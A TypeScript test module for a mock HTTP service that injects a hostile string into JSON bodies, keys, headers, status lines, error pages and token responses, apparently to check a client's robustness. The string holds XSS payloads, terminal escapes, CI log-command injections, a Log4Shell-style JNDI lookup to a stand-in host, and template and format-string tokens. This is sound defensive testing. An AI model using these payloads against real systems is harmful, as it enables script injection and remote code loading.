import { json, text } from '../../sandbox/http/responses.ts';
import type { ServiceResponse } from '../../sandbox/http/exchange.ts';
import { isObject, type Json } from '../../sandbox/http/json.ts';
import { changeResponse, isBusiness, respondWith, on } from '../../sandbox/twists/twists.ts';
import { behavior, type Behavior } from './behavior.ts';
import { asJson, envelope, ok, raw } from './writing.ts';

/** Shows that a text came through. */
export const marker = 'hostile-text';

/** What a terminal, a browser, Markdown or XML might take for its own. */
const evil = [
  marker,
  '\u001b[2J\u001b[31m\u001b]0;title\u0007\u009b31m',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  ']]><failure/>&amp;--><!--',
  '|`**x** [a](javascript:b) ![c](http://stranger.example/d)',
  '\n# Title\n::error::x\r\n##vso[task.complete]',
  '\u0000\u0008\ufffe\ud800\u202e\u2066\u200f',
  '${jndi:ldap://stranger.example} {{constructor}} %s %n',
].join(' ');

/** Every text and every name in it, far from what they were. */
function worse(value: Json): Json {
  if (typeof value === 'string') return value + evil;
  if (Array.isArray(value)) return value.map(worse);
  if (!isObject(value)) return value;
  const entries = Object.entries(value).map(([key, inner]): [string, Json] => [key, worse(inner)]);
  return Object.fromEntries([...entries, [evil, evil]]);
}

const worsened = (answer: ServiceResponse): ServiceResponse =>
  answer.json === undefined ? answer : { ...answer, json: worse(answer.json) };

const header = Buffer.from(evil.replaceAll(/[\r\n]/g, ' ').replaceAll('\u0000', ' '), 'utf8').toString('latin1');

export const texts: readonly Behavior[] = [
  behavior('writes what programs act upon into every text', ['OP-1', 'OP-2', 'OP-15'], 1, changeResponse(isBusiness, worsened)),
  behavior(
    'writes it into a header and a media type',
    ['OP-2'],
    1,
    respondWith(on('OP-2'), () => raw([ok, `Content-Type: ${header}`, `X-Odd: ${header}`, `Content-Length: ${envelope.length}`], envelope)),
  ),
  behavior(
    'writes it into its reason',
    ['OP-2'],
    1,
    respondWith(on('OP-2'), () => raw([`HTTP/1.1 418 ${header}`, asJson, 'Content-Length: 2'], '{}')),
  ),
  behavior(
    'writes it into an error page',
    ['OP-2'],
    1,
    respondWith(on('OP-2'), () => text(404, 'text/html', `<html>${evil}</html>`)),
  ),
  behavior(
    'writes it into what refuses a token',
    ['TOKEN', 'OP-2'],
    4,
    respondWith(on('TOKEN'), () => json(401, { error: evil, [evil]: evil, error_description: evil })),
  ),
  behavior(
    'writes it into a token',
    ['TOKEN', 'OP-2'],
    1,
    respondWith(on('TOKEN'), () => json(200, { access_token: evil })),
  ),
];
